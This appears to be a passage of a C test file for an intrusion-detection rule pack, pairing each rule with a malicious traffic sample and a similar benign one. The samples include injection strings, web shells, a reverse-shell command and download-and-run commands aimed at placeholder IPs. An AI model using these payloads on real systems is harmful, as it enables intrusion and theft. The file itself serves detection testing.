/* test_pack.c - every rule of the starting pack: one message it must find, and the nearest honest one it must not. */
#include "finding.h"
#include "pack.h"

#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

enum { BUFS = 6, TEXT_MAX = 8192 };
#define TS MMR_TO_SERVER
#define TC MMR_TO_CLIENT
#define IE11 "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
#define HEX52 "0123456789abcdef0123456789abcdef0123456789abcdef0123"
#define A64 "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2"

struct part {
    const char *name, *yes, *no; /* |hex| as in rules; no NULL: the same as yes */
};
struct row {
    uint32_t sid;
    const char *app; /* NULL: a TCP stream; "udp", "icmp": a datagram */
    uint8_t dir;
    uint16_t port;
    unsigned times; /* 0: once */
    struct part part[BUFS];
    const char *uuid; /* of a DCE/RPC call */
    uint16_t opnum, opnum_no;
};

static const struct row rows[] = {
    {9000001, NULL, TS, 8080, 0, {{"", "GET / HTTP/1.1|0d 0a|X-Api: ${jndi:ldap://192.0.2.1/a}|0d 0a|", "GET /jndi:ldap HTTP/1.1|0d 0a|X-Api: ${java:version}|0d 0a|"}}, NULL, 0, 0},
    {9000002, "http", TS, 80, 0, {{"http.uri", "/?x=${jndi:rmi://192.0.2.1/a}", "/docs/jndi?x=$jndi"}}, NULL, 0, 0},
    {9000003, NULL, TS, 80, 0, {{"", "GET /?x=${${lower:j}ndi:ldap://192.0.2.1/a} HTTP/1.1|0d 0a|", "GET /?x=${lower:name} HTTP/1.1|0d 0a|"}}, NULL, 0, 0},
    {9000004, NULL, TS, 80, 0, {{"", "User-Agent: ${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/}", "export A=${B::-1}"}}, NULL, 0, 0},
    {9000005, "http", TS, 80, 0, {{"http.uri", "/?x=${${env:NaN:-j}ndi:ldap://192.0.2.1/a}", "/?template=${name}"}}, NULL, 0, 0},
    {9000010, "http", TS, 80, 0, {{"http.request_body", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "class.name=x"}}, NULL, 0, 0},
    {9000019, "http", TS, 80, 0, {{"http.uri", "/a?class.module.classLoader.DefaultAssertionStatus=1", "/class/module"}}, NULL, 0, 0},
    {9000011, "http", TS, 80, 0, {{"http.header", "spring.cloud.function.routing-expression: T(java.lang.Runtime)|0d 0a|", "X-Spring: cloud|0d 0a|"}}, NULL, 0, 0},
    {9000012, "http", TS, 80, 0, {{"http.uri", "/${(#a=@java.lang.Runtime@getRuntime())}/", "/${user}/profile"}}, NULL, 0, 0},
    {9000013, "http", TS, 80, 0, {{"http.content_type", "%{(#nike='multipart/form-data').(#_memberAccess=@ognl.OgnlContext)}", "multipart/form-data"}}, NULL, 0, 0},
    {9000014, "http", TS, 80, 0, {{"http.uri", "/index.php?-d+allow_url_include=1+-d+auto_prepend_file=php://input", "/index.php?q=allow_url_include"}}, NULL, 0, 0},
    {9000015, "http", TS, 80, 0, {{"http.uri", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/docs/phpunit/index.html"}}, NULL, 0, 0},
    {9000016, "http", TS, 80, 0, {{"http.uri", "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array&vars[0]=x", "/api/invokefunction"}}, NULL, 0, 0},
    {9000017, "http", TS, 80, 0, {{"http.request_body", "|ac ed 00 05|sr..org.apache.commons.collections.functors.InvokerTransformer", "|ac ed 00 05|sr..java.util.HashMap"}}, NULL, 0, 0},
    {9000018, "http", TS, 80, 0, {{"http.request_body", "x=T(java.lang.Runtime).getRuntime().exec('id')", "stack: java.lang.RuntimeException at"}}, NULL, 0, 0},
    {9000020, "http", TS, 80, 0, {{"http.header", "User-Agent: () { :; }; /bin/bash -c id|0d 0a|", "X-Code: function() { return 1 }|0d 0a|"}}, NULL, 0, 0},
    {9000021, "http", TS, 80, 0, {{"http.uri", "/ping?ip=8.8.8.8;wget http://192.0.2.9/x.sh", "/docs?q=wget http mirror"}}, NULL, 0, 0},
    {9000022, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "host=1.1.1.1;cd /tmp; wget 192.0.2.9/x", "text=how to use wget and curl in /tmp"}}, NULL, 0, 0},
    {9000023, "http", TS, 80, 0, {{"http.uri", "/a.cgi?ip=1.1.1.1;cat /etc/passwd", "/search?q=cat pictures;id=5"}}, NULL, 0, 0},
    {9000024, "http", TS, 80, 0, {{"http.request_body", "cmd=bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "text=the bash shell"}}, NULL, 0, 0},
    {9000030, "http", TS, 80, 0, {{"http.uri", "/a?f=../../../../etc/passwd", "/etc/site.css?v=1..2"}}, NULL, 0, 0},
    {9000031, "http", TS, 80, 0, {{"http.uri.raw", "/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh", "/a/../b/../c.css"}}, NULL, 0, 0},
    {9000032, "http", TS, 80, 0, {{"http.uri", "/?page=php://filter/convert.base64-encode/resource=index", "/?page=phpinfo"}}, NULL, 0, 0},
    {9000033, "http", TS, 80, 0, {{"http.uri", "/.git/config", "/git/config.html"}}, NULL, 0, 0},
    {9000040, "http", TS, 80, 0, {{"http.uri", "/i.php?id=1 UNION SELECT 1,2,3--", "/european-union/select-committee"}}, NULL, 0, 0},
    {9000041, "http", TS, 80, 0, {{"http.uri", "/i.php?id=1' AND SLEEP(5)--", "/sleep/5"}}, NULL, 0, 0},
    {9000042, "http", TS, 80, 0, {{"http.uri", "/i.php?id=1' OR '1'='1", "/i.php?name=O'Brien or others"}}, NULL, 0, 0},
    {9000043, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "user=admin%27+or+1%3d1--&p=x", "text=it's union day; select a seat"}}, NULL, 0, 0},
    {9000044, "http", TS, 80, 0, {{"http.uri", "/?q=<script>alert(1)</script>", "/?q=script tag alert"}}, NULL, 0, 0},
    {9000045, "http", TS, 80, 0, {{"http.request_body", "<!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "<!DOCTYPE a [<!ENTITY name \"text\">]>"}}, NULL, 0, 0},
    {9000050, "http", TS, 80, 0, {{"http.uri", "/uploads/a.php?cmd=whoami", "/page.php?c=news"}}, NULL, 0, 0},
    {9000051, "http", TS, 80, 0, {{"http.request_body", "<?php @eval($_POST['x']); ?>", "<?php echo htmlspecialchars($_GET['q']); ?>"}}, NULL, 0, 0},
    {9000052, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "z=@eval(base64_decode($_POST[z0]));", "z=evaluation form"}}, NULL, 0, 0},
    {9000053, "http", TC, 80, 0, {{"http.response_body", "uid=33(www-data) gid=33(www-data) groups=33(www-data)", "uid=33&gid=12"}}, NULL, 0, 0},
    {9000060, "http", TS, 80, 0, {{"http.user_agent", "sqlmap/1.5 (http://sqlmap.org)", "Mozilla/5.0 (X11; Linux)"}}, NULL, 0, 0},
    {9000101, "http", TS, 80, 0, {{"http.uri", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm -rf /tmp/*;wget", "/setup.cgi?next_file=status.htm"}}, NULL, 0, 0},
    {9000102, "http", TS, 80, 0, {{"http.request_body", "<NewInternalClient>`cd /tmp;wget http://192.0.2.9/m`</NewInternalClient>", "<NewInternalClient>192.168.0.5</NewInternalClient>"}}, NULL, 0, 0},
    {9000103, "http", TS, 80, 0, {{"http.uri", "/GponForm/diag_Form?images/", "/images/a.png"}}, NULL, 0, 0},
    {9000104, "http", TS, 443, 0, {{"http.uri", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/remote/fgt_lang?lang=en"}}, NULL, 0, 0},
    {9000105, "http", TS, 443, 0, {{"http.uri.raw", "/dana-na/../dana/html5acc/guacamole/../../etc/passwd?/dana/", "/dana-na/auth/welcome.cgi"}}, NULL, 0, 0},
    {9000106, "http", TS, 443, 0, {{"http.uri.raw", "/vpn/../vpns/cfg/smb.conf", "/vpn/index.html"}}, NULL, 0, 0},
    {9000107, "http", TS, 80, 0, {{"http.uri", "/cgi-bin/nas_sharing.cgi?user=mbu&cmd=15&system=aWQ=", "/cgi-bin/nas_sharing.cgi?share=public"}}, NULL, 0, 0},
    {9000108, "http", TS, 80, 0, {{"http.uri", "/System/configurationFile?auth=YWRtaW46MTEK", "/System/status"}}, NULL, 0, 0},
    {9000109, NULL, TS, 9100, 0, {{"", "|1b|%-12345X@PJL FSDIRLIST NAME=|22|0:|5c 22| ENTRY=1|0d 0a|", "|1b|%-12345X@PJL SET COPIES=1|0d 0a|"}}, NULL, 0, 0},
    {9000110, "http", TS, 443, 0, {{"http.uri", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/", "/autodiscover/autodiscover.json?Protocol=EWS"}}, NULL, 0, 0},
    {9000111, NULL, TS, 443, 0, {{"", "|18 03 02 00 03 01 40 00|", "|18 03 02 00 13 01 00 10|0123456789abcdef"}}, NULL, 0, 0},
    {9000112, NULL, TS, 445, 0, {{"", "|00 00 10 4e ff|SMB|33 00 00 00 00 18 07 c0 00 00|" A64 A64 A64 A64 A64 A64 A64, "|00 00 10 4e ff|SMB|33 00 00 00 00 18 07 c0 00 00|short"}}, NULL, 0, 0},
    {9000113, NULL, TS, 445, 0, {{"", "|00 00 00 4a ff|SMB|25 00 00 00 00 18 01 28|............|23 00 00 00 07 00 5c|PIPE|5c 00|", "|00 00 00 4a ff|SMB|25 00 00 00 00 18 01 28|............|26 00 01 40 07 00 5c|PIPE|5c 00|"}}, NULL, 0, 0},
    {9000114, NULL, TS, 445, 0, {{"", "|00 00 00 40 fc|SMB|32 00 00 00 01 00 00 00 ff ff ff ff|AAAA", "|00 00 00 40 fc|SMB|32 00 00 00 01 00 00 00 10 00 00 00|AAAA"}}, NULL, 0, 0},
    {9000115, NULL, TS, 3389, 0, {{"", "|03 00 01 ca 02 f0 80|rdpdr|00 00 00|MS_T120|00 80 80|", "|03 00 01 ca 02 f0 80|rdpdr|00 00 00|rdpsnd|00 80 80|"}}, NULL, 0, 0},
    {9000116, NULL, TS, 6379, 0, {{"", "config set dir /root/.ssh/|0d 0a|", "config set dir /var/lib/redis|0d 0a|"}}, NULL, 0, 0},
    {9000117, "ssh", TS, 22, 0, {{"ssh.software", "zgrab", "OpenSSH_9.2p1"}}, NULL, 0, 0},
    {9000201, "http", TS, 80, 0, {{"http.uri", "/news.php", NULL}, {"http.cookie", "session=bWFtb3JpIHRlc3QgdmFsdWU=", NULL}, {"http.user_agent", IE11, NULL}, {"http.header_names", "|0d 0a|Cookie|0d 0a|User-Agent|0d 0a|Host|0d 0a 0d 0a|", "|0d 0a|Cookie|0d 0a|User-Agent|0d 0a|Referer|0d 0a|Host|0d 0a 0d 0a|"}}, NULL, 0, 0},
    {9000202, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/login/process.php", "/login/index.php"}, {"http.user_agent", IE11, NULL}, {"http.header_names", "|0d 0a|User-Agent|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
    {9000203, "http", TS, 80, 0, {{"http.uri", "/en-us/test.html", "/en-us/about.html"}, {"http.request_body", "i=a19ea23062db990386a3a478cb89d52e&data=eyJHVUlE&session=75db-99b1", NULL}}, NULL, 0, 0},
    {9000204, "http", TS, 80, 0, {{"http.method", "GET", NULL}, {"http.uri", "/aB3x", "/ab/x"}, {"http.host.raw", "192.0.2.7:8080", NULL}, {"http.user_agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", NULL}, {"http.header_names", "|0d 0a|User-Agent|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
    {9000205, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/submit.php?id=1834092178", "/submit.php?id=form7"}, {"http.content_type", "application/octet-stream", NULL}}, NULL, 0, 0},
    {9000206, "http", TS, 80, 0, {{"http.method", "GET", NULL}, {"http.uri", "/dpixel", NULL}, {"http.cookie", A64 A64 "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY=", "sid=1; lang=ja"}}, NULL, 0, 0},
    {9000207, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "|00 00 00 f0 de ad be ef 12 34|", "|00 00 00 f0 de ad 00 ef 12 34|"}}, NULL, 0, 0},
    {9000208, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/oauth/samples.php?q=1a2b3c4d", NULL}, {"http.cookie", "PHPSESSID=0123456789abcdef0123456789abcdef", "PHPSESSID=0123456789abcdef0123456789abcdef; lang=ja"}, {"http.header_names", "|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
    {9000209, "http", TS, 80, 0, {{"http.uri", "/data", "/data/upload"}, {"http.request_body", A64 A64 A64, NULL}, {"http.header_names", "|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
    {9000210, "http", TS, 8082, 0, {{"http.method", "POST", NULL}, {"http.host.raw", "192.0.2.7:8082", NULL}, {"http.content_type", "multipart/form-data; boundary=x", NULL}, {"http.uri", "/mor1/PC-01_W10.0123456789ABCDEF0123456789ABCDEF/81/", "/upload/file/81/"}}, NULL, 0, 0},
    {9000211, "http", TS, 8082, 0, {{"http.method", "POST", NULL}, {"http.host.raw", "192.0.2.7", NULL}, {"http.request_body", "Content-Disposition: form-data; name=\"proclist\"|0d 0a 0d 0a|***PROCESS LIST***", "Content-Disposition: form-data; name=\"photo\""}}, NULL, 0, 0},
    {9000212, "http", TS, 8080, 0, {{"http.method", "POST", NULL}, {"http.host.raw", "192.0.2.7:8080", NULL}, {"http.uri", "/pQbR3/a8Xz1/", "/upload.php"}, {"http.content_type", "multipart/form-data; boundary=x", NULL}, {"http.referer", "192.0.2.7/pQbR3/", NULL}}, NULL, 0, 0},
    {9000213, "http", TS, 7080, 0, {{"http.method", "POST", NULL}, {"http.host.raw", "192.0.2.7:7080", NULL}, {"http.uri", "/Ab3dEfGh1jKlMn0p", "/gateway/upload"}, {"http.user_agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0)", NULL}, {"http.content_type", "application/x-www-form-urlencoded", NULL}, {"http.header_names", "|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
    {9000220, NULL, TS, 4444, 0, {{"", "bash: no job control in this shell|0a|", "bash: command not found|0a|"}}, NULL, 0, 0},
    {9000221, NULL, TS, 4444, 0, {{"", "Microsoft Windows [Version 10.0.19041.1]|0d 0a|(c) Microsoft Corporation. All rights reserved.|0d 0a 0d 0a|C:|5c|Users|5c|a>", "Microsoft Windows [Version 10.0.19041.1] is required"}}, NULL, 0, 0},
    {9000222, NULL, TS, 4444, 0, {{"", "uid=0(root) gid=0(root) groups=0(root)|0a|", "uid=1000(a) gid=1000(a)|0a|"}}, NULL, 0, 0},
    {9000223, NULL, TS, 4444, 0, {{"", "PS C:|5c|Users|5c|a> ", "PS C: is a drive"}}, NULL, 0, 0},
    {9000224, NULL, TC, 4444, 0, {{"", "MZ|90 00|This program cannot be run in DOS mode....metsrv.dll.ReflectiveLoader", "MZ|90 00|This program cannot be run in DOS mode....setup.exe"}}, NULL, 0, 0},
    {9000230, "http", TS, 8888, 0, {{"http.user_agent", "Java/1.8.0_181", NULL}, {"http.uri", "/Exploit.class", "/maven/index.xml"}}, NULL, 0, 0},
    {9000231, "http", TC, 80, 0, {{"file.data", "MZ|90 00 03 00 00 00|................This program cannot be run in DOS mode.", "|89|PNG|0d 0a|................"}, {"http.content_type", "image/png", NULL}}, NULL, 0, 0},
    {9000232, "http", TS, 80, 0, {{"http.uri", "/a/payload.exe", "/a/readme.txt"}, {"http.host.raw", "192.0.2.7:8000", NULL}, {"http.user_agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1", NULL}}, NULL, 0, 0},
    {9000233, "http", TS, 80, 0, {{"http.user_agent", "CertUtil URL Agent", NULL}, {"http.uri", "/tool.txt", "/root.crl"}}, NULL, 0, 0},
    {9000234, "http", TC, 80, 0, {{"file.data", "powershell -nop -w hidden -enc " A64, "powershell -File setup.ps1"}}, NULL, 0, 0},
    {9000235, "http", TC, 80, 0, {{"file.data", "$a=[Convert]::FromBase64String('AA==');IEX $a", "$a=[Convert]::FromBase64String('AA==')"}, {"http.content_type", "text/plain", NULL}}, NULL, 0, 0},
    {9000236, "http", TS, 80, 0, {{"http.user_agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.1", NULL}, {"http.host.raw", "192.0.2.7", "www.example.com"}}, NULL, 0, 0},
    {9000237, "http", TC, 80, 0, {{"file.data", "#!/bin/sh|0a|cd /tmp; wget http://192.0.2.9/x.mips; curl -O http://192.0.2.9/x.arm7; chmod 777 x*", "#!/bin/sh|0a|wget http://example.com/a.tar.gz|0a|tar xf a.tar.gz|0a|chmod +x run"}}, NULL, 0, 0},
    {9000240, NULL, TS, 3333, 0, {{"", "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"x/1\"]}|0a|", "{\"id\":1,\"method\":\"eth_blockNumber\"}|0a|"}}, NULL, 0, 0},
    {9000241, NULL, TS, 3333, 0, {{"", "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"XMRig/6\",\"algo\":[\"rx/0\"]}}|0a|", "{\"method\":\"login\",\"user\":\"a\",\"agent\":\"b\"}|0a|"}}, NULL, 0, 0},
    {9000250, "dns", TS, 53, 5, {{"dns.query", HEX52 "." HEX52 ".t.example", "www.example.com"}}, NULL, 0, 0},
    {9000251, "udp", TC, 53, 10, {{"", "|12 34 81 80 00 01 00 01 00 00 00 00 01|a|00 00 10 00 01 c0 0c 00 10 00 01 00 00 00 3c 00 c1 c0|" A64 A64 A64, "|12 34 81 80 00 01 00 01 00 00 00 00 01|a|00 00 10 00 01 c0 0c 00 10 00 01 00 00 00 3c 00 10 0f|v=spf1 -all    "}}, NULL, 0, 0},
    {9000252, "dns", TS, 53, 0, {{"dns.query", "dnscat.0102030405", "mail.example.com"}}, NULL, 0, 0},
    {9000301, NULL, TS, 445, 0, {{"", "P|00|S|00|E|00|X|00|E|00|S|00|V|00|C|00|.|00|e|00|x|00|e|00|", "P|00|S|00|E|00|X|00|A|00|M|00|P|00|L|00|E|00|"}}, NULL, 0, 0},
    {9000302, "smb", TS, 445, 0, {{"smb.named_pipe", "RemCom_communicaton", "srvsvc"}}, NULL, 0, 0},
    {9000303, NULL, TS, 445, 0, {{"", "%|00|C|00|O|00|M|00|S|00|P|00|E|00|C|00|%|00| |00|/|00|Q|00| |00|/|00|c|00|", "%|00|P|00|A|00|T|00|H|00|%|00|"}}, NULL, 0, 0},
    {9000304, NULL, TS, 445, 0, {{"", "> |5c 00 5c 00|1|00|2|00|7|00|.|00|0|00|.|00|0|00|.|00|1|00 5c 00|A|00|D|00|M|00|I|00|N|00|$|00|", "|5c 00|1|00|2|00|7|00|.|00|0|00|.|00|0|00|.|00|1|00 5c 00|d|00|o|00|c|00|s|00|"}}, NULL, 0, 0},
    {9000305, NULL, TC, 4444, 0, {{"", "mimikatz # sekurlsa::logonpasswords", "about lsa logons"}}, NULL, 0, 0},
    {9000306, NULL, TS, 445, 0, {{"", "m|00|i|00|m|00|i|00|k|00|a|00|t|00|z|00|.|00|e|00|x|00|e|00|", "m|00|i|00|m|00|i|00|c|00|.|00|t|00|x|00|t|00|"}}, NULL, 0, 0},
    {9000307, "dcerpc", TS, 445, 0, {{"dcerpc.stub_data", "x", NULL}}, "e3514235-4b06-11d1-ab04-00c04fc2dcd2", 3, 4},
    {9000308, "dcerpc", TS, 49670, 0, {{"dcerpc.stub_data", "D|00|C|00 00 00 00 00 00 00 00 00 00 00 ff ff 2f 21|", "D|00|C|00 12 34 56 78 9a bc de f0 ff ff 2f 21|"}}, "12345678-1234-abcd-ef00-01234567cffb", 26, 26},
    {9000309, "dcerpc", TS, 445, 0, {{"dcerpc.stub_data", "|5c 00 5c 00|h|00 5c 00|s|00 5c 00|x|00|.|00|d|00|l|00|l|00|", "|5c 00 5c 00|h|00 5c 00|p|00|r|00|n|00|"}}, "12345678-1234-abcd-ef00-0123456789ab", 89, 89},
    {9000310, NULL, TS, 445, 0, {{"", "|00 00 01 00 fe|SMB|40 00|....All of your files have been encrypted. Buy bitcoin and write to us.", "|00 00 01 00 fe|SMB|40 00|....Your files are on the server."}}, NULL, 0, 0},
    {9000311, NULL, TS, 49670, 5, {{"", "|05 00 00 03 10 00 00 00 88 00 00 00 02 00 00 00 70 00 00 00 00 00 1a 00|D|00|C|00 00 00 00 00 00 00 00 00 00 00 ff ff 2f 21|", "|05 00 00 03 10 00 00 00 88 00 00 00 02 00 00 00 70 00 00 00 00 00 1a 00|D|00|C|00 00 00 9a bc de f0 12 34 56 78 ff ff 2f 21|"}}, NULL, 0, 0},
    {9000320, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "367abb81-9844-35f1-ad32-98f038001003", 12, 6},
    {9000321, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "86d35949-83c9-4044-b424-db363231fd0c", 1, 2},
    {9000322, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "1ff70682-0a51-30e8-076d-740be8cee98b", 0, 2},
    {9000323, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "9556dc99-828c-11cf-a37e-00aa003240c7", 24, 6},
    {9000324, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "338cd001-2244-31f1-aaaa-900090380003", 22, 16},
    {9000325, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "3dde7c30-165d-11d1-ab8f-00805f14db40", 0, 1},
    {9000326, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "c681d488-d850-11d0-8c52-00c04fd90f7e", 0, 20},
    {9000327, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "4fc742e0-4a10-11cf-8273-00aa004ae673", 12, 2},
    {9000328, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "12345678-1234-abcd-ef00-0123456789ab", 65, 1},
    {9000900, "http", TC, 80, 0, {{"file.data", "X5O!P%@AP[4|5c|PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "EICAR-STANDARD-ANTIVIRUS-TEST"}}, NULL, 0, 0},
    {9000401, "http", TS, 443, 0, {{"http.uri.raw", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "/tmui/login.jsp"}}, NULL, 0, 0},
    {9000402, "http", TS, 443, 0, {{"http.uri", "/mgmt/tm/util/bash", "/mgmt/shared/echo"}}, NULL, 0, 0},
    {9000403, "http", TS, 80, 0, {{"http.request_body", "mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id", "mail=a@example.org&form_id=user"}}, NULL, 0, 0},
    {9000404, "http", TS, 7001, 0, {{"http.uri", "/wls-wsat/CoordinatorPortType", "/ws/Port"}, {"http.request_body", "<java><object class=\"java.lang.ProcessBuilder\">", NULL}}, NULL, 0, 0},
    {9000405, "http", TS, 80, 0, {{"http.uri", "/shell.jsp/", "/notes.txt"}, {"http.method", "PUT", NULL}}, NULL, 0, 0},
    {9000406, "http", TS, 8088, 0, {{"http.request_body", "{\"application-id\":\"a\",\"am-container-spec\":{\"commands\":{\"command\":\"curl http://192.0.2.9/x|sh\"}}}", "{\"application-id\":\"a\"}"}}, NULL, 0, 0},
    {9000407, "http", TS, 2375, 0, {{"http.uri", "/v1.24/containers/create", "/v1.24/containers/json"}, {"http.request_body", "{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/mnt\"]}}", NULL}}, NULL, 0, 0},
    {9000408, "http", TS, 80, 0, {{"http.request_body", "routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec(\"id\");", "routestring=forum"}}, NULL, 0, 0},
    {9000409, "http", TS, 443, 0, {{"http.cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; ", "session=abcdef"}}, NULL, 0, 0},
    {9000410, "http", TS, 80, 0, {{"http.request_body", "data=AAEAAAD/////AQAAAAAAAAAMAgAAAFtTextFormattingRunProperties", "data=AAEAAAD/////hello"}}, NULL, 0, 0},
    {9000411, "http", TS, 80, 0, {{"http.uri", "/?f=php://filter/convert.base64-encode/resource=../config.php", "/?f=php"}}, NULL, 0, 0},
    {9000412, "http", TS, 80, 0, {{"http.uri.raw", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "/index.php?%E3%81%82"}}, NULL, 0, 0},
    {9000413, "http", TS, 80, 0, {{"http.request_body", "user=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", "user=jndi"}}, NULL, 0, 0},
    {9000414, "http", TS, 80, 0, {{"http.request_body", "{\"filters\":[{\"name\":\"AddResponseHeader\",\"args\":{\"value\":\"#{T(java.lang.Runtime).getRuntime()}\"}}]}", "{\"filters\":[]}"}}, NULL, 0, 0},
    {9000415, "http", TS, 80, 0, {{"http.header", "Cookie: id=1' UNION SELECT 1,2,3-- |0d 0a|", "Cookie: name=O'Brien|0d 0a|"}}, NULL, 0, 0},
    {9000416, "http", TS, 443, 0, {{"http.uri", "/ui/vropspluginui/rest/services/uploadova", "/ui/login"}}, NULL, 0, 0},
    {9000417, "http", TS, 80, 4, {{"http.uri", "/actuator/env", "/actuator/health"}}, NULL, 0, 0},
    {9000420, "http", TS, 80, 0, {{"http.uri", "/files/update.exe", "/files/manual.pdf"}, {"http.host", "192.0.2.9", NULL}}, NULL, 0, 0},
    {9000421, "http", TS, 80, 0, {{"http.uri", "/invoice.pdf.exe", "/jquery.min.js"}}, NULL, 0, 0},
    {9000422, "http", TC, 80, 0, {{"http.header", "Content-Disposition: attachment; filename=\"bill.pdf.js\"|0d 0a|", "Content-Disposition: attachment; filename=\"bill.pdf\"|0d 0a|"}}, NULL, 0, 0},
    {9000423, "http", TS, 80, 0, {{"http.uri", "/bins/bot.mips", "/bins/readme"}, {"http.host", "192.0.2.9", NULL}}, NULL, 0, 0},
    {9000424, "http", TC, 80, 0, {{"file.data", "|7f|ELF|02 01 01 00|", "plain text"}, {"http.content_type", "text/plain", NULL}}, NULL, 0, 0},
    {9000425, "http", TC, 80, 0, {{"http.content_type", "application/hta", "application/json"}}, NULL, 0, 0},
    {9000426, "http", TS, 80, 0, {{"http.uri", "/x7Hq2?sid=0123456789abcdef0123456789abcdef;csrf=", "/page?sid=12"}, {"http.header_names", "|0d 0a|Host|0d 0a|User-Agent|0d 0a|", NULL}}, NULL, 0, 0},
    {9000427, "http", TS, 80, 0, {{"http.request_body", "out=uid=0(root) gid=0(root)", "out=done"}, {"http.method", "POST", NULL}, {"http.host", "192.0.2.9", NULL}}, NULL, 0, 0},
    {9000440, NULL, TS, 5552, 0, {{"", "213|00|ll|7c 27 7c 27 7c|SGFjS2Vk|7c 27 7c 27 7c|PC1|7c 27 7c 27 7c|taro", "213|00|mm|7c 27|x"}}, NULL, 0, 0},
    {9000441, NULL, TS, 8000, 0, {{"", "Gh0st|ad 00 00 00 e0 00 00 00 78 9c 4b 53|", "Ghost in the shell |78 9c|"}}, NULL, 0, 0},
    {9000442, NULL, TS, 6667, 0, {{"", "PRIVMSG #bots :.udpflood 192.0.2.1 80 60|0d 0a|", "PRIVMSG #office :download the file please|0d 0a|"}}, NULL, 0, 0},
    {9000443, "udp", TS, 53, 8, {{"", "|12 34 01 00 00 01 00 00 00 00 00 01 08|yrb7w2kq|01|t|07|example|03|org|00 00 0a 00 01|", "|12 34 01 00 00 01 00 00 00 00 00 01 03|www|07|example|03|org|00 00 01 00 01|"}}, NULL, 0, 0},
    {9000444, "dns", TS, 53, 0, {{"dns.query", "dnscat.0a1b2c3d4e5f60718293", "dns.example.org"}}, NULL, 0, 0},
    {9000445, "dns", TS, 53, 0, {{"dns.query", "abcdefghijklmnop.onion", "onion.example.org"}}, NULL, 0, 0},
    {9000446, NULL, TS, 445, 0, {{"", "|00 00 00 4f ff|SMB|32 00 00 00 00 18 07 c0 00 00 00 00 00 00 00 00 00 00 00 00 00 08 ff fe 00 08 41 00 0f 0c 00 00 00 01 00 00 00 00 00 00 00 d9 a4 a6 00 00 00 0c 00 42 00 00 00 4e 00 01 00 0e 00 0d 00 00 00|", "|00 00 00 4f ff|SMB|32 00 00 00 00 18 07 c0 00 00 00 00 00 00 00 00 00 00 00 00 00 08 ff fe 00 08 42 00 0f 0c 00 00 00 01 00 00 00 00 00 00 00 d9 a4 a6 00 00 00 0c 00 42 00 00 00 4e 00 01 00 05 00 0d 00 00 00|"}}, NULL, 0, 0},
    {9000447, NULL, TC, 445, 0, {{"", "|00 00 00 23 ff|SMB|32 02 00 00 c0 98 07 c0 00 00 00 00 00 00 00 00 00 00 00 00 00 08 ff fe 00 08 51 00 00 00 00|", "|00 00 00 23 ff|SMB|32 02 00 00 c0 98 07 c0 00 00 00 00 00 00 00 00 00 00 00 00 00 08 ff fe 00 08 01 00 00 00 00|"}}, NULL, 0, 0},
    {9000448, "tls", TC, 443, 0, {{"tls.cert_subject", "CN=AsyncRAT Server", "CN=www.example.org"}}, NULL, 0, 0},
